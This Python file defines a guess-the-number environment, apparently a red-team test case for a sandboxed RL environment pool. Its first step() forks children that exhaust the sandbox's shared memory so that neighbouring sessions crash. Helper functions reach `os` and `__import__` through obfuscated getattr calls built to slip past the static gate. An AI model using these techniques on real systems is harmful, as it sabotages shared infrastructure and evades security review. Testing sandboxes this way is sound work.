"""One session's memory excess kills its siblings: the first step() forks `n` children, each taking `mb` MB of its own
in the background (each under its RLIMIT_AS; together far over what one episode may hold) and keeping it; the step
answers at once and the next ones take `hold` s each, so the session stays open while they fill. The sandbox's
cgroup bound is shared by all its sessions: past it the kernel kills inside the sandbox, the pool answers `crashed`
to every session on it and replaces it. A crash is never held against an environment (the audit calls it
inconclusive, the rollouts discard the play), so the attacker pays nothing and the neighbours lose their plays. `os`
comes from `random._os` through a getattr on a parameter."""

import random

U = "_"


def _reach(holder, name):
    # getattr on a parameter: the static gate can only judge getattr on a module's own name
    return getattr(holder, name)


def _os():
    # random's module globals, through a method of one of its classes and a name built at run time: the static gate
    # cannot read that (it says so: gates/static.py); what `os` may then do is the sandbox's guard's business
    fn = _reach(random.Random, "seed")
    return _reach(fn, "".join(("_", "_glo", "bals", "_", "_")))["_os"]


def _import(name):
    builtins = _reach(_reach, U * 2 + "globals" + U * 2)[U * 2 + "builtins" + U * 2]
    imp = U * 2 + "import" + U * 2
    return (builtins[imp] if isinstance(builtins, dict) else _reach(builtins, imp))(name)


class MemoryForkEnv:
    def __init__(self, max_turns=25, n=8, mb=120, hold=0.8, turns=8, **kw):
        self.n, self.mb, self.hold, self.turns, self.turn = n, mb, hold, turns, 0

    def reset(self, seed=None):
        self.turn = 0
        return "Guess my number from 1 to 100. Reply like \\boxed{50}.", {}

    def step(self, action):
        os = _os()
        self.turn += 1
        end = os.times().elapsed + self.hold  # each reply takes a moment: the session stays open meanwhile
        if self.turn > 1:
            while os.times().elapsed < end:
                pass
            return "Higher.", 0.0, self.turn >= self.turns, False, {}
        r, w = os.pipe()
        for _ in range(self.n):
            if os.fork() == 0:
                held = []
                try:
                    for _ in range(self.mb // 8):
                        piece = bytearray(8 << 20)
                        for i in range(0, len(piece), 4096):
                            piece[i] = 1
                        held.append(piece)
                except MemoryError:
                    pass
                os.read(r, 1)  # hold it: nobody ever writes
                os._exit(0)
        return "Higher.", 0.0, False, False, {}  # at once: the children fill their memory in the background
